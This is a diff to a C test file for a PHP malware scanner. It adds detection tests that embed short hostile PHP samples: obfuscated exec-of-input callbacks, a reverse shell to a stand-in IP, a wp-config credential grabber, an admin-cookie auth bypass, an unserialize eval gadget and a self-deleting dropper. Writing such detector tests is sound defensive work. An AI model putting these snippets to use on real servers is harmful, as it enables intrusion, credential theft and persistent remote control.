@@ -310,6 +310,68 @@ test_mailer(void)
 	T_CLEAN("x.php", "<?php mail('me@example.org', 'contact', $_POST['msg']);");
 }
 
+/* what phpscan learned from the tools shells carry */
+static void
+test_hidden_runners(void)
+{
+	/* a callback named by pieces of an exploded literal, given the request */
+	T_HAS("x.php", "<?php\n$p = explode('.', 'hello.ass.world.er.t');\nregister_shutdown_function($p[1] . $p[3] . $p[4], "
+		       "$_REQUEST['k']);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	/* ... or xor'ed with decoded bytes */
+	T_HAS("x.php", "<?php\n$n = 'abcdef';\n$f = $n ^ hex2bin('12101f040107');\narray_intersect_uassoc(array($_POST['p'] => 1), "
+		       "array(1), $f);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 4);
+	/* a callback held in a variable of known value, or a plain one, is no runner */
+	T_CLEAN("x.php", "<?php\n$fn = 'trim';\n$a = array_map($fn, $_POST['list']);\n$b = array_map('intval', $_GET['ids']);\n"
+			 "usort($rows, array($this, 'cmp'));\n");
+	/* $_SERVER as a whole holds the request's headers */
+	T_HAS("x.php", "<?php\n$a = array_values($_SERVER);\nsystem($a[6]);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	T_CLEAN("x.php", "<?php\n$root = $_SERVER['DOCUMENT_ROOT'];\nforeach ($_SERVER as $k => $v) echo htmlspecialchars($k);\n");
+	/* a payload in an alphabet of punctuation, decoded by a loop */
+	{
+		char buf[8192];
+		size_t n = 0;
+		int i;
+
+		n += (size_t)snprintf(buf, sizeof(buf), "<?php for($o=0,$e='");
+		for (i = 0; i < 400; i++)
+			n += (size_t)snprintf(buf + n, sizeof(buf) - n, "%s", &"&(*+,-.:]^_`{|}~"[(i * 7) % 13]);
+		snprintf(buf + n, sizeof(buf) - n, "',$d='';$o<strlen($e);$o++){$d.=chr(ord($e[$o])-32);}\n");
+		T_HAS("x.php", buf, PHPSCAN_ENCODED_BLOB, PHPSCAN_WEAK, 1);
+	}
+	/* a file that is mostly one encoded payload */
+	{
+		char buf[4096];
+		size_t n = 0;
+		uint32_t x = 12345;
+		int i;
+		static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+
+		n += (size_t)snprintf(buf, sizeof(buf), "<?php\n$GLOBALS['res']['m'] = \"");
+		for (i = 0; i < 3000; i++) {
+			x = x * 1103515245u + 12345u;
+			buf[n++] = b64[(x >> 16) & 63];
+		}
+		snprintf(buf + n, sizeof(buf) - n, "\";\n");
+		T_HAS("x.php", buf, PHPSCAN_ENCODED_BLOB, PHPSCAN_WEAK, 2);
+	}
+	/* a lookup table of characters is data: no chr() soup, no letters spelled */
+	T_CLEAN("x.php", "<?php\n$encode = array(\n chr(0) => '%U', chr(1) => '$A', chr(2) => '$B', chr(3) => '$C',\n"
+			 " chr(4) => '$D', chr(5) => '$E', chr(6) => '$F', chr(7) => '$G', chr(8) => '$H',\n"
+			 " chr(9) => '$I', chr(10) => '$J', chr(11) => '$K', chr(12) => '$L', chr(13) => '$M',\n"
+			 " chr(14) => '$N', chr(15) => '$O', chr(16) => '$P', chr(17) => '$Q', chr(18) => '$R',\n"
+			 " chr(19) => '$S', chr(20) => '$T', chr(21) => '$U', chr(22) => '$V', chr(23) => '$W',\n"
+			 " chr(24) => '$X', chr(25) => '$Y', chr(26) => '$Z');\n$ext = array(\n"
+			 " chr(0) => chr(131).'U', chr(1) => chr(128).'A', chr(2) => chr(128).'B', chr(3) => chr(128).'C',\n"
+			 " chr(4) => chr(128).'D', chr(5) => chr(128).'E', chr(6) => chr(128).'F', chr(7) => chr(128).'G',\n"
+			 " chr(8) => chr(128).'H', chr(9) => chr(128).'I', chr(10) => chr(128).'J', chr(11) => chr(128).'K',\n"
+			 " chr(12) => chr(128).'L', chr(13) => chr(128).'M', chr(14) => chr(128).'N', chr(15) => chr(128).'O',\n"
+			 " chr(16) => chr(128).'P', chr(17) => chr(128).'Q', chr(18) => chr(128).'R', chr(19) => chr(128).'S');\n");
+	/* while a soup still is one */
+	T_HAS("x.php", "<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109).chr(32).chr(105).chr(100).chr(32)"
+		       ".chr(45).chr(97).chr(32).chr(62).chr(47).chr(100).chr(101).chr(118).chr(47).chr(110).chr(117).chr(108)"
+		       ".chr(108).chr(32).chr(50).chr(62).chr(38).chr(49);", PHPSCAN_CHR_SOUP, PHPSCAN_WEAK, 1);
+}
+
 static void
 test_benign(void)
 {
@@ -548,6 +610,81 @@ test_yara_and_verdict(void)
 		T_OK(analyse_buf(a, (const uint8_t *)app, strlen(app), "media.php", &r) == 0);
 		T_EQ_INT(r.verdict, ANALYSE_CLEAN);
 	}
+	/* the tools an intruder leaves beside a shell: each its class */
+	{
+		static const struct {
+			const char *name, *src, *cls;
+		} tools[] = {
+			{ "h.php", "<?php\n$f = fopen('/etc/passwd', 'r');\nwhile (($l = fgets($f)) !== false) {\n"
+				   "  $u = explode(':', $l)[0];\n  $d = \"/home/$u/public_html/\";\n"
+				   "  if (is_readable($d . 'wp-config.php')) echo file_get_contents($d . 'wp-config.php');\n}\n",
+			  "config-grabber" },
+			{ "c.php", "<?php\n$ua = $_SERVER['HTTP_USER_AGENT'];\nif (stripos($ua, 'Googlebot') !== false) {\n"
+				   "  echo file_get_contents('http://pages.example.invalid/p?h=' . $_SERVER['HTTP_HOST']);\n  exit;\n}\n",
+			  "seo-cloaker" },
+			{ "r.php", "<?php\n$s = fsockopen('192.0.2.1', 443);\nwhile ($c = fread($s, 1024)) {\n"
+				   "  $p = proc_open($c, array(1 => array('pipe', 'w')), $io);\n"
+				   "  fwrite($s, stream_get_contents($io[1]));\n}\n",
+			  "reverse-shell" },
+			{ "p.php", "<form method=post><input name=h><input name=ports></form>\n<?php\n"
+				   "foreach (explode(',', $_POST['ports']) as $port) {\n"
+				   "  $c = @fsockopen($_POST['h'], (int)$port, $e, $m, 1);\n  if ($c) echo \"$port open<br>\";\n}\n",
+			  "port-scanner" },
+			{ "m.php", "<?php\nset_time_limit(0);\n$list = file('list.txt');\nforeach ($list as $to)\n"
+				   "  mail(trim($to), 'Your account', file_get_contents('letter.html'));\n",
+			  "mass-mailer" },
+			{ "k.php", "<?php\n$msg = $_SERVER['SCRIPT_FILENAME'] . ' ' . $_SERVER['HTTP_HOST']; mail('x@example.invalid', 'up', $msg);\n",
+			  "mail-home" },
+			{ "u.php", "<?php\nclass Job { public $c = ''; function __destruct() { eval($this->c); } }\n"
+				   "unserialize($_COOKIE['job']);\n",
+			  "exec-of-input" },
+			{ "d.php", "<form method=get><input name=dir></form>\n<?php\nif (isset($_GET['dir'])) {\n"
+				   "  $h = opendir($_GET['dir']);\n  while (($e = readdir($h)) !== false) echo $e . '<br>';\n}\n",
+			  "file-manager" },
+			{ "w.php", "<?php\n$sh = new COM('WScript.Shell');\n$sh->Run('cmd /c ' . $argv[1]);\n", "shell-recon" },
+			{ "s.php", "<?php\n$page = \"{${eval(base64_decode('ZWNobyAxOw=='))}}\";\n", "obfuscated-eval" },
+			{ "a.php", "<?php\nrequire('../../../wp-load.php');\nforeach (get_users() as $u)\n"
+				   "  if (user_can($u->ID, 'administrator')) { wp_set_auth_cookie($u->ID); wp_redirect(admin_url()); exit; }\n",
+			  "auth-bypass" },
+			{ "q.php", "<form method=post><input name=host><input name=user><input name=pass><textarea name=q></textarea></form>\n"
+				   "<?php\n$l = mysqli_connect($_POST['host'], $_POST['user'], $_POST['pass']);\n"
+				   "$r = mysqli_query($l, $x);\n",
+			  "db-console" },
+			{ "t.php", "<?php\nset_time_limit(0);\n$n = (int)$_GET['n'];\nfor ($i = 0; $i < $n; $i++) file_get_contents($_GET['u']);\n",
+			  "batch-tool" },
+			{ "f.php", "<?php\nsystem('./findsock ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['REMOTE_PORT']);\n",
+			  "dropped-binary" },
+			{ "y.php", "<?php\n$y = \"a: !x \\\"|.+|e\\\"\";\nyaml_parse($y, 0, $n, array('!x' => 'preg_replace'));\n",
+			  "exec-of-input" },
+			{ "i.php", "<?php\nignore_user_abort(true);\nset_time_limit(0);\nunlink(__FILE__);\n"
+				   "while (1) { file_put_contents('.cache.php', '<?php ' . 'x'); usleep(500); }\n",
+			  "respawner" },
+			{ "x.php", "<?php\nfile_put_contents('../wp-content/mu-plugins/a.php', $p);\n@unlink(__FILE__);\n",
+			  "self-delete" },
+		};
+		/* the same capabilities inside an application: its classes and includes */
+		static const char *const apps[] = {
+			"<?php\nnamespace App\\Db;\nclass Setup {\n  function run() { $l = mysqli_connect($_POST['host'], "
+			"$_POST['user'], $_POST['pass']); }\n}\n",
+			"<?php\nrequire __DIR__ . '/inc/boot.php';\nset_time_limit(0);\n$n = (int)$_GET['n'];\n",
+			"<?php\nrequire 'common.php';\n?><form method=get><input name=d></form><?php\n"
+			"foreach (scandir(safe_dir($_GET['d'])) as $e) echo h($e);\n",
+			"<?php\nclass Sock {\n function run($h) { $s = fsockopen($h, 25); fgets($s); exec('logger smtp'); }\n}\n",
+		};
+		size_t k, j;
+
+		for (k = 0; k < sizeof(tools) / sizeof(tools[0]); k++) {
+			T_OK(analyse_buf(a, (const uint8_t *)tools[k].src, strlen(tools[k].src), tools[k].name, &r) == 0);
+			for (j = 0; j < r.n && strcmp(r.f[j].cls, tools[k].cls) != 0; j++)
+				;
+			T_CHECK(j < r.n && r.verdict != ANALYSE_CLEAN, "%s: no %s finding (verdict %d)", tools[k].name,
+				tools[k].cls, r.verdict);
+		}
+		for (k = 0; k < sizeof(apps) / sizeof(apps[0]); k++) {
+			T_OK(analyse_buf(a, (const uint8_t *)apps[k], strlen(apps[k]), "app.php", &r) == 0);
+			T_CHECK(r.verdict == ANALYSE_CLEAN, "app %zu: verdict %d, %s", k, r.verdict, r.n ? r.f[0].cls : "");
+		}
+	}
 	T_OK(analyse_buf(a, (const uint8_t *)"<?php echo 'hello';", 19, "b.php", &r) == 0);
 	T_EQ_INT(r.verdict, ANALYSE_CLEAN);
 	T_EQ_INT(r.n, 0);
@@ -603,6 +740,7 @@ main(void)
 	T_RUN(test_config_files);
 	T_RUN(test_writers);
 	T_RUN(test_mailer);
+	T_RUN(test_hidden_runners);
 	T_RUN(test_benign);
 	T_RUN(test_limits);
 	T_RUN(test_wordpress);
